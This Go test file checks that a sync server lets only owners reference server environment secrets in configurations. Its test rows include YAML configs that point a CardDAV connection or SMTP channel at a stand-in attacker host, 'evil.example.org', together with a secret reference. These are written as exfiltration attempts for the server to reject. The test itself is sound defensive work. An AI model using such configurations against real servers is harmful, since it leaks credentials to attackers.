package server_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/kith-sync/kith/account"
)

// What a configuration says of a variable of the server's environment is sent to the
// server that it names. Only an owner may say so: a manager could have it sent to one
// of their own.
func TestOnlyAnOwnerUsesVariablesOfTheServer(t *testing.T) {
	t.Setenv("KITH_SECRET_OFFICE", "canary")
	t.Setenv("KITH_SECRET_LURE", "canary")
	w := newWorld(t)
	manager, owner := w.as(account.Manager), w.as(account.Owner)
	office := func(name, host, more string) string {
		return fmt.Sprintf("apiVersion: kith/v1\nkind: Connection\nname: %s\ntype: carddav\nsettings:\n  url: https://%s/\n  user: ada\n%ssecret: ${env:KITH_SECRET_OFFICE}\n", name, host, more)
	}
	mail := "apiVersion: kith/v1\nkind: Channel\nname: mail\ntype: smtp\nsettings:\n  host: evil.example.org\n  from: kith@example.org\n  user: kith\nsecret: ${env:KITH_SECRET_OFFICE}\n"
	manager.json("PUT", "/api/v1/connections/lure", `{"type":"carddav","settings":{"url":"https://evil.example.org/","user":"ada"},"secret":"bait"}`).is(200)
	for _, row := range []struct {
		sentence string
		who      *person
		text     string
		status   int
		says     string
		name     string // of a connection, and the secret that it has then
		has      string
	}{
		{"a manager makes no connection with one", manager, office("office", "evil.example.org", ""), 422, "only an owner may use variables", "office", ""},
		{"nor a channel", manager, mail, 422, "only an owner may use variables", "", ""},
		{"nor puts one in the place of a secret of their own", manager, office("lure", "evil.example.org", ""), 422, "only an owner may use variables", "lure", "bait"},
		{"one of the connection's own name changes nothing", manager, strings.Replace(office("lure", "evil.example.org", ""), "_OFFICE", "_LURE", 1), 200, "", "lure", "bait"},
		{"an owner does", owner, office("office", "dav.example.org", ""), 200, "", "office", "canary"},
		{"a manager does not lead it elsewhere then", manager, office("office", "evil.example.org", ""), 422, "another server", "office", "canary"},
		{"but changes what else there is, and it stays", manager, office("office", "dav.example.org", "  calls_per_day: \"7\"\n"), 200, "", "office", "canary"},
	} {
		for _, do := range []string{"plan", "apply"} {
			a := row.who.json("POST", "/api/v1/config/"+do, `{"files":[{"name":"a.yaml","text":`+quoted(row.text)+`}]}`)
			if a.status != row.status || !strings.Contains(a.body, row.says) || strings.Contains(a.body, "canary") {
				t.Errorf("%s: %s: got %d %s, want %d and %q", row.sentence, do, a.status, a.body, row.status, row.says)
			}
		}
		if got := w.secretOf(row.name); got != row.has {
			t.Errorf("%s: the secret of %s is %q, want %q", row.sentence, row.name, got, row.has)
		}
	}
}

// secretOf is the secret that a connection signs in with; none: it is not there.
func (w *world) secretOf(name string) string {
	w.t.Helper()
	c, err := w.Workspace.Store.Connection(w.t.Context(), name)
	if err != nil {
		return ""
	}
	plain, err := w.Workspace.OpenConnection(w.t.Context(), c)
	w.no(err)
	return plain
}
